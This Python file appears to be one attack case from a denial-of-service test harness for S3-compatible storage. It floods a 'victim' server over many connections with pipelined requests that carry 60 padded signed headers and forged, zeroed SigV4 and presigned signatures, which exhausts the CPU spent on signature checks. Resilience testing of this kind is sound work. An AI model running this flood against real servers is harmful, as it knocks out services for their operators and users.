"""Requests with wrong signatures of many signed fields and long queries, pipelined: checks of signatures cost CPU."""

import time

import wire

S3 = True


def attack(victim):
    names = [f"x-amz-meta-{number:03}" for number in range(60)]
    more = [(name, "v" * 100) for name in names]
    genuine = victim.signed("GET", "/good/hit-0")
    wrong = [(name, value[:-64].replace("SignedHeaders=host", f"SignedHeaders=host;{';'.join(names)}") + "0" * 64)
             if name == "authorization" else (name, value) for name, value in genuine]
    header = wire.head("/good/hit-0", [*more, *wrong])
    presigned = wire.head(victim.presigned("GET", "/good/hit-0")[:-64] + "0" * 64)

    def flood(number):
        with victim.connect() as sock:
            piece = (header if number % 2 else presigned) * 5
            while True:
                sock.sendall(piece)
                if not sock.recv(1 << 20):
                    return

    wire.crowd(6 * victim.scale, flood)
    time.sleep(0.5)
    victim.begun()
